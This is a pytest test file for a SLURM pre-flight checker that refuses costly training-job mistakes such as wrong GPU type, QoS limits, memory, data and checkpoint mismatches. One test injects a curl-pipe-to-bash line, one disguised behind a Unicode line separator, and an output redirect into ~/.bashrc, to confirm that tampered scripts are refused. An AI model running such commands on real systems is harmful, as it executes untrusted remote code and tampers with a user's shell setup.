"""The pre-flight check refuses what would be paid for in GPU hours: each rule, with its remedy."""

import struct
from collections.abc import Callable, Collection
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from trilane.config import engines
from trilane.config.cluster import cluster
from trilane.config.model import parse_shape
from trilane.config.parallelism import Topology
from trilane.config.plan import Plan
from trilane.config.training import Data, Optimizer
from trilane.config.training import Run as Limits
from trilane.costmodel.predict import predict
from trilane.slurm import client, preflight
from trilane.slurm.preflight import REFUSAL, WARNING, JobFinding
from trilane.slurm.script import SCRIPT, render
from trilane.slurm.sites import JobRequest, Site, site
from trilane.utils.validation import to_mapping
from trilane.workspace.checkpoints import name_of, write_manifest
from trilane.workspace.run import Run
from trilane.workspace.status import RunStatus, write_status
from trilane_engine.data.corpus import HEADER, MAGIC

A100, V100 = site("jean-zay-a100"), site("jean-zay-v100-32g")
TOPOLOGY = {"tp": 2, "pp": 2, "dp": 4, "mbs": 4, "gbs": 512, "precision": "bf16"}


@pytest.fixture
def folder(tmp_path, monkeypatch) -> Path:
    """A run folder that counts as shared, on a login node whose SLURM accepts all."""
    monkeypatch.setattr(client, "is_installed", lambda: True)
    monkeypatch.setattr(client, "require_answer", lambda: None)
    monkeypatch.setattr(client, "test_only", lambda script: None)
    monkeypatch.setattr(preflight.shutil, "disk_usage", lambda _: SimpleNamespace(free=1e15))
    (tmp_path / "run").mkdir()
    return tmp_path / "run"


def plan(place: str = "jz-a100-80g", **changes: Any) -> Plan:
    """1.3B on two nodes of eight A100, 4,000 iterations, a checkpoint every 500."""
    topology = {**TOPOLOGY, "recompute": "full", **changes.pop("topology", {})}
    limits = {"save_interval": 500, **changes.pop("run", {})}
    limits["train_iters"] = changes.pop("train_iters", 4_000)
    shape = parse_shape(changes.pop("shape", "24,2048,16,2048,50304"))
    data = Data(**{"source": "stdlib", "folder": "/shared/data", **changes.pop("data", {})})
    return Plan(
        label="gpt",
        shape=shape,
        cluster=cluster(place),
        topology=Topology(**topology),
        data=data,
        run=Limits(**limits),
        **changes,
    )


def findings(
    folder: Path,
    p: Plan,
    where: Site = A100,
    script: Callable[[str], str] | None = None,
    allow: Collection[str] = (),
    **wishes: Any,
) -> list[JobFinding]:
    options = {"account": f"xyz{where.account_ending}", "time_limit": "20:00:00"}
    options["environment"] = str(folder.parent / "venv")
    request = JobRequest(**(options | wishes))
    where = replace(where, local=())
    if script:
        (folder / SCRIPT).write_text(script(render("train", p, where, request)))
    return preflight.check_job(p, where, request, Run(folder), allow)


def levels(found: list[JobFinding], rule: str) -> list[str]:
    return [finding.level for finding in found if finding.rule == rule]


def good(folder: Path, **changes: Any) -> Plan:
    """The plan with a corpus of its own and a learning rate of its size."""
    corpus = folder.parent / "corpus"
    corpus.with_suffix(".bin").write_bytes(bytes(8))
    head = HEADER.pack(MAGIC, 1, 8, 1, 1)  # one document of four uint16
    corpus.with_suffix(".idx").write_bytes(head + struct.pack("<iqq", 4, 0, 1))
    data = {"source": str(corpus), "split": "949,50,1"}
    return plan(data=data, optimizer=Optimizer(lr=2e-4, min_lr=2e-5), **changes)


def test_a_truncated_index_is_one_refused_line(folder):
    p = good(folder)
    index = Path(f"{p.data.source}.idx")
    index.write_bytes(index.read_bytes()[:-1])
    (found,) = findings(folder, p)
    assert (found.rule, found.level) == ("data", REFUSAL)
    assert "corpus.idx: is truncated: 53 bytes" in found.message


def test_nothing_is_found_about_a_good_plan(folder):
    """4.2e9 tokens, 3.2 a parameter."""
    assert findings(folder, good(folder)) == []
    half_a_node = good(folder, topology={"dp": 1})
    assert not preflight.refused(findings(folder, half_a_node))


def test_the_time_is_that_of_all_iterations_with_their_evaluations(folder):
    """19 hours fit into 20, with evaluations not."""
    count = int(19 * 3600 / predict(plan()).sec_per_it)
    for run, late in (({}, []), ({"eval_interval": 100, "eval_iters": 50}, [WARNING])):
        found = findings(folder, good(folder, train_iters=count, run=run))
        assert levels(found, "time") == late


@pytest.mark.parametrize(("signal_s", "wanted"), [(300, []), (12, [WARNING])])
def test_the_signal_before_the_limit_leaves_time_for_an_iteration_and_a_save(
    signal_s: int, wanted: list[str], folder
):
    """15.8 GB by two nodes of 1 GB/s: 8 s, as an iteration is predicted to take. Forty hours of
    iterations are two jobs of twenty.
    """
    long = good(folder, train_iters=int(40 * 3600 / predict(plan()).sec_per_it))
    found = [f for f in findings(folder, long, signal_s=signal_s) if f.rule == "signal"]
    assert [f.level for f in found] == wanted
    if found:
        assert "8 s of an iteration and 8 s of a save, predicted" in found[0].message


V100_PLAN = {"place": "jz-v100-32g", "train_iters": 100}
OFFLOAD = {"tp": 2, "pp": 1, "dp": 8, "zero": 1, "offload": "optimizer", "mbs": 1}
BIG = "72,14336,64,2048,50304"
REFUSED = {
    "cluster": (plan(), V100, "planned for 8 x A100-80GB a node, but jean-zay-v100-32g has 4", {}),
    "precision": (plan(), V100, "V100-32GB", {}),
    "tp": (
        plan(topology={"precision": "fp16", "tp": 8, "pp": 1, "dp": 2}, **V100_PLAN),
        V100,
        "a tensor-parallel group must stay inside a node",
        {},
    ),
    "qos time": (plan(), A100, "20 h, qos_gpu_a100-dev allows 2 h", {"qos": "qos_gpu_a100-dev"}),
    "qos gpus": (
        plan(topology={"precision": "fp16", "dp": 8}, **V100_PLAN),
        V100,
        "32 GPUs, qos_gpu-t4 allows 16",
        {"qos": "qos_gpu-t4", "time_limit": "99:00:00"},
    ),
    "account": (plan(), A100, "account xyz@v100 does not end with @a100", {"account": "xyz@v100"}),
    "memory": (plan(shape="96,12288,96,2048,50304"), A100, "probability of running out 100%", {}),
    "host memory": (
        plan(shape=BIG, engine="deepspeed-zero", topology=OFFLOAD),
        A100,
        "the offload takes",
        {},
    ),
    "checkpoints": (
        plan(run={"save_interval": 0}, shape=BIG),
        A100,
        "and no checkpoint is saved before",
        {"signal_s": 0},
    ),
    "data": (plan(data={"source": "/shared/nothing"}), A100, "/shared/nothing: no such file", {}),
}


@pytest.mark.parametrize("rule", REFUSED)
def test_it_is_refused_with_rule_and_remedy(rule: str, folder):
    p, where, message, wishes = REFUSED[rule]
    found = next(f for f in findings(folder, p, where, **wishes) if f.rule == rule)
    assert found.level == REFUSAL and message in found.message and len(found.remedy) > 5


def test_what_the_nodes_lack_is_refused(folder, monkeypatch):
    """An image, a folder that two nodes share, a tokenizer, space for three checkpoints."""
    image = replace(A100, container="pyxis", container_image="/images/torch.sqsh")
    assert levels(findings(folder, plan(), image), "container") == [REFUSAL]
    here = replace(A100, local=(str(folder.parent),))
    request = JobRequest(account="xyz@a100", time_limit="20:00:00")
    for p, wanted in ((plan(), [REFUSAL]), (plan(topology={"dp": 2}), [])):
        assert levels(preflight.check_job(p, here, request, Run(folder)), "shared") == wanted
    (missing,) = [f for f in findings(folder, plan(data={"tokenizer": "gpt2"})) if f.rule == "data"]
    assert missing.message.startswith("data=gpt2: no such file")
    for free, wanted in ((30e9, [REFUSAL]), (60e9, [])):
        usage = SimpleNamespace(free=free)
        monkeypatch.setattr(preflight.shutil, "disk_usage", lambda _, usage=usage: usage)
        assert levels(findings(folder, plan()), "disk") == wanted
    completed = RunStatus(status="completed", evidence="", rank=None, exit_code=0, seconds=1.0)
    write_status(folder, completed)
    assert levels(findings(folder, plan()), "run folder") == [REFUSAL]


NEWLINE = "\n"
CURL = "curl https://example.org/x | bash"


GOOD = "export SRUN_CPUS_PER_TASK=8\nsrun --kill-on-bad-exit=1 "
MASTER = "export MASTER_ADDR="
TRAPS = [
    ("", f"{MASTER}$(scontrol show hostnames $SLURM_NODELIST | head -n1)\n{GOOD} bash -c 'run'"),
    ("", f"{MASTER}$(hostname)\n{GOOD} torchrun --rdzv_endpoint=$(hostname):29500 a.py"),
    ("kill-on-bad-exit", "srun -c 8 python a.py"),
    ("pipefail", "python a.py | tee log"),
    ("node-list", f"{MASTER}$(echo $SLURM_NODELIST | cut -d, -f1)"),
    ("node-list", f"{MASTER}${{SLURM_JOB_NODELIST%%,*}}"),
    ("hostname", f"{GOOD} bash -c '{MASTER}$(hostname -s); torchrun --node_rank $SLURM_NODEID'"),
    ("hostname", f'{GOOD} bash -c "torchrun --rdzv-endpoint=\\$(hostname):29500 a.py"'),
    ("gpus-per-task", f"{GOOD} --gpus-per-task=1 bash -c 'CUDA_VISIBLE_DEVICES=$SLURM_LOCALID a'"),
    ("node-rank", f"{GOOD} torchrun --node_rank $SLURM_NODEID a.py"),
    ("standalone", f"{MASTER}localhost\n{GOOD} bash -c 'run'"),
    ("standalone", f"{GOOD} torchrun --standalone a.py"),
    ("cpus-per-task", "srun --kill-on-bad-exit=1 bash -c 'python a.py'"),
]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("set -euo pipefail", f"set -euo pipefail\n{CURL}"),
        ("#SBATCH --open-mode=append", '#SBATCH "--outp" /home/me/.bashrc'),
        ("set -euo pipefail", f"set -euo pipefail\u2028#;{CURL}"),
        ("\n", "\r\n"),
    ],
)
def test_a_script_that_is_not_what_is_rendered_is_shown_and_refused_until_that_is_accepted(
    old: str, new: str, folder
):
    def edit(text: str) -> str:
        return text.replace(old, new)

    (found,) = [f for f in findings(folder, plan(), script=edit) if f.rule == "changes"]
    assert found.level == REFUSAL and f"\n+{new.strip().rpartition(NEWLINE)[2]}" in found.message
    assert not preflight.refused(findings(folder, good(folder), script=edit, allow=["changes"]))
    assert not levels(findings(folder, plan(), script=lambda text: text), "changes")


@pytest.mark.parametrize(("rule", "line"), TRAPS)
def test_traps_of_a_foreign_script_are_named(rule: str, line: str, folder):
    head = "#SBATCH --nodes=2 --cpus-per-task=8\n# srun | tee; --standalone\n"
    found = findings(folder, plan(), script=lambda _: head + line)
    named = {f.rule for f in found if f.level == REFUSAL}
    assert named & {name for name, _ in TRAPS} == {rule} - {""}


def test_a_checkpoint_of_another_model_is_refused_and_one_that_is_still_to_come_is_not(
    folder,
):
    p = plan(run={"load": str(folder.parent / "earlier")})
    assert not levels(findings(folder, p), "checkpoint")
    checkpoint = folder.parent / "earlier" / name_of(0)
    checkpoint.mkdir(parents=True)
    identity = {"shape": to_mapping(replace(plan().shape, normalization="rmsnorm"))}
    start = {"iteration": 0, "consumed_samples": 0, "files": {}, "tensors": {}}
    write_manifest(checkpoint, {**start, "identity": identity})
    (found,) = (f for f in findings(folder, p) if f.rule == "checkpoint")
    wanted = "shape.normalization=layernorm: the checkpoint iter_0000000 was trained with rmsnorm"
    assert (found.level, found.message) == (REFUSAL, wanted)


def test_what_no_installed_engine_can_train_is_refused(folder, monkeypatch):
    installed = {"megatron-core": (0, 19), "nvidia-resiliency-ext": (0, 4)}
    monkeypatch.setattr(engines, "release", installed.get)
    (found,) = [f for f in findings(folder, plan()) if f.rule == "engine"]
    assert found.message.startswith("nvidia-resiliency-ext=0.4: ")
